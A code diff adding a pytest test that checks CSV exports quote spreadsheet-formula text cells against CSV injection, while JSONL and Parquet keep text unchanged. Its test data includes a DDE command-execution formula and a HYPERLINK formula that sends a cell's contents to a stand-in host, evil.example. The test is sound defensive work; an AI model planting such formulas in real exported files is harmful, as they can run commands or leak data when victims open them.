@@ -134,3 +134,35 @@ def test_bad_requests_are_user_errors(sqlite_url: str, tmp_path: Path, kind, fmt
     with Session(engine_for(sqlite_url)) as s, pytest.raises(UserError, match=message):
         export(s, kind, fmt=fmt, out=tmp_path / out)
     assert not any(p.name.endswith(".tmp") for p in tmp_path.rglob("*"))
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1",
+            "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_quoted(sqlite_url: str, tmp_path: Path) -> None:
+    """OWASP CSV injection rule for text cells; numbers (even negative) stay numbers;
+    JSONL and Parquet keep the text as it is."""
+    import csv
+
+    _study(sqlite_url, tmp_path)
+    with Session(engine_for(sqlite_url)) as s:
+        student = s.exec(User.__table__.select().where(User.name == "student-1")).first()
+        s.add_all([Response(response_id=f"evil-{i}", task_id="t1", source="student",
+                            user_id=student.id, sample=i + 1, text=text, blind_code=f"H-E{i}")
+                   for i, text in enumerate(FORMULAS)])
+        score = s.exec(GraderScore.__table__.select()).first()
+        s.get(GraderScore, score.id).latency_s = -1.5  # a negative number, not text
+        s.commit()
+        for fmt in ("csv", "jsonl", "parquet"):
+            export(s, "responses", fmt=fmt, out=tmp_path / f"r.{fmt}")
+        export(s, "grader-scores", fmt="csv", out=tmp_path / "g.csv")
+    with open(tmp_path / "r.csv", newline="") as f:
+        cells = {row["response_id"]: row["text"] for row in csv.DictReader(f)}
+    assert [cells[f"evil-{i}"] for i in range(len(FORMULAS))] == ["'" + t for t in FORMULAS]
+    assert cells["human-1"] == "stroke"
+    with open(tmp_path / "g.csv", newline="") as f:
+        assert next(csv.DictReader(f))["latency_s"] == "-1.5"
+    for fmt in ("jsonl", "parquet"):
+        text = _read(tmp_path / f"r.{fmt}", fmt).set_index("response_id")["text"]
+        assert [text[f"evil-{i}"] for i in range(len(FORMULAS))] == FORMULAS
